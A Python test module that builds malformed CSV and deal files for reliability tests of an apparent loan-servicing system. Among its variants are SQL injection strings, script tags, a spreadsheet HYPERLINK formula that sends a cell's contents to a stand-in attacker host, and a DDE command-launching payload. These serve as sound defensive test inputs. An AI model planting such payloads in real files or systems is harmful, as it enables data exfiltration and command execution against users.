"""One file for each corruption kind (and its main variants), built without randomness.

The strategies of tests/reliability/malformed.py are run with a `Picker` in
place of hypothesis' draw: every choice takes the first option, unless one of
the case's `choose` values is among the options. So each kind is shown at least
once, the same file on every run, by the same code the generated files use.
"""
from __future__ import annotations

from hypothesis.strategies._internal.lazy import LazyStrategy

from tests.reliability import malformed
from tests.reliability.malformed import Case


class Picker:
    """A deterministic stand-in for hypothesis' `draw`."""

    def __init__(self, choose=()):
        self.choose = list(choose)

    def __call__(self, strategy):
        while isinstance(strategy, LazyStrategy):
            strategy = strategy.wrapped_strategy
        if hasattr(strategy, "element_strategy"):  # a list: its first min_size distinct options
            elements = getattr(strategy.element_strategy, "elements", None)
            if elements is not None:
                return list(elements[: strategy.min_size])
            return [self(strategy.element_strategy) for _ in range(strategy.min_size)]
        if hasattr(strategy, "elements"):
            wanted = [c for c in self.choose if any(c == e and type(c) is type(e) for e in strategy.elements)]
            return wanted[0] if wanted else strategy.elements[0]
        if hasattr(strategy, "start"):
            return strategy.start
        if "Boolean" in type(strategy).__name__:
            return True in self.choose
        raise TypeError(f"no deterministic pick for {strategy!r}")


def _build(make, names, choose, **kwargs) -> Case:
    # The composite's inner function, called with the picker as its draw.
    return make(names=names, **kwargs).wrapped_strategy.definition(Picker(choose), names=names, **kwargs)


CSV_VARIANTS = [
    (["wrong columns"], ["drop"]), (["wrong columns"], ["rename"]), (["wrong columns"], ["extra"]),
    (["wrong columns"], ["twice"]), (["wrong columns"], ["reorder and rename"]),
    (["encoding"], ["latin-1"]), (["encoding"], ["utf-16"]), (["encoding"], ["utf-16-le"]),
    (["encoding"], ["invalid utf-8"]), (["encoding"], ["mixed"]), (["encoding"], ["nul byte"]),
    (["huge number"], ["1e28"]), (["huge number"], ["9" * 400]), (["huge number"], ["1e999999999"]),
    (["negative amount"], ["-0.01"]),
    (["date out of range"], ["0000-00-00"]), (["date out of range"], ["9999-12-31"]),
    (["date out of range"], ["2026-02-30"]),
    (["duplicate"], []),
    (["identifier injection"], ["'; DROP TABLE ledger_event;--"]), (["identifier injection"], ["<script>"]),
    (["formula injection"], ['=HYPERLINK("http://evil.example/?x="&A1,"Click")']),
    (["formula injection"], ["@SUM(A1:A9)"]),
    (["inert injection text"], ["Robert'); DROP TABLE servicing_loan;--"]),
    (["inert injection text"], ["<script>alert('x')</script>"]),
    (["control characters"], ["\x00"]), (["control characters"], ["\x1b"]),
    (["very long string"], []), (["very long string"], [True]),
    (["huge number of columns"], [50]), (["huge number of columns"], [20_000]),
    (["line endings and BOM"], ["\r\n"]), (["line endings and BOM"], ["\r", True]),
    (["truncated last line"], []),
    (["empty file"], []), (["only a header"], []),
    # The independent trial's amounts: a decimal comma, bad grouping, an exponent; and more decimals than kept.
    (["malformed amount"], ["599,55"]), (["malformed amount"], ["1,0,0.00"]), (["malformed amount"], ["5.9955E+02"]),
    (["malformed amount"], ["12,34.00"]), (["malformed amount"], ["\u0665.00"]),
    (["too many decimals"], ["original_balance", "100.000"]), (["too many decimals"], ["note_rate", "6.12345"]),
    (["too many decimals"], ["servicing_fee_rate", "0.00005"]),
]
PAYMENT_VARIANTS = CSV_VARIANTS + [(["unknown loan"], []), (["date out of range"], ["1900-01-01"])]
DEAL_VARIANTS = [
    (["wrong columns"], ["drop"]), (["wrong columns"], ["misspell", "cutoff_date"]), (["wrong columns"], ["extra"]),
    (["wrong columns"], ["class key"]),
    (["encoding"], ["latin-1"]), (["encoding"], ["utf-16"]), (["encoding"], ["invalid utf-8"]),
    (["encoding"], ["raw nul"]), (["encoding"], ["escaped nul"]), (["encoding"], ["lone surrogate"]),
    (["huge number"], ["class face", "1e28"]), (["huge number"], ["holder face", str(10**400)]),
    (["huge number"], ["payment_day"]), (["huge number"], ["digits"]),
    (["negative amount"], ["class face", "-100000.00"]), (["negative amount"], ["holder face"]),
    (["negative amount"], ["priority"]), (["negative amount"], ["spread"]),
    (["date out of range"], ["closing_date", "0000-00-00"]), (["date out of range"], ["cutoff_date", "9999-12-31"]),
    (["date out of range"], ["first_payment_date", "2026-02-30"]),
    (["duplicate"], ["class"]), (["duplicate"], ["loan"]), (["duplicate"], ["json key"]),
    (["identifier injection"], ["code", "'; DROP TABLE ledger_event;--"]), (["identifier injection"], ["loan"]),
    (["identifier injection"], ["holder code", "<script>"]), (["identifier injection"], ["class name"]),
    (["formula injection"], ["name"]), (["formula injection"], ["holder name", "+cmd|' /C calc'!A0"]),
    (["inert injection text"], ["name", "Robert'); DROP TABLE servicing_loan;--"]),
    (["inert injection text"], ["trustee", "<script>alert('x')</script>"]),
    (["control characters"], ["name", "\x07"]), (["control characters"], ["holder name", "\ufeff"]),
    (["very long string"], ["name", 1_000_000]), (["very long string"], ["code", 201]),
    (["huge number of columns"], [20_000]),
    (["line endings and BOM"], [2, "\r\n", True]), (["line endings and BOM"], [0, "\r"]),
    (["truncated last line"], []), (["unknown loan"], []),
    (["empty file"], []), (["only a header"], []), (["deep nesting"], []),
    (["malformed amount"], ["class face", "599,55"]), (["malformed amount"], ["holder face", "1,0,0.00"]),
    (["malformed amount"], ["denomination", "5.9955E+02"]),
    (["too many decimals"], ["issuer_spread_rate"]), (["too many decimals"], ["purchase_price_percent"]),
    (["too many decimals"], ["coupon", "6.12345"]), (["too many decimals"], ["face"]),
    (["string boolean"], ["false"]), (["string boolean"], [0]),
    # A loan not boarded is named even beside the file's own problems.
    (["unknown loan", "malformed amount"], ["class face", "599,55"]),
]

TAPE_CASES = [_build(malformed.malformed_tapes, names, choose) for names, choose in CSV_VARIANTS]
PAYMENT_CASES = [_build(malformed.malformed_payment_files, names, choose, loans=3)
                 for names, choose in PAYMENT_VARIANTS]
DEAL_CASES = [_build(malformed.malformed_deals, names, choose) for names, choose in DEAL_VARIANTS]
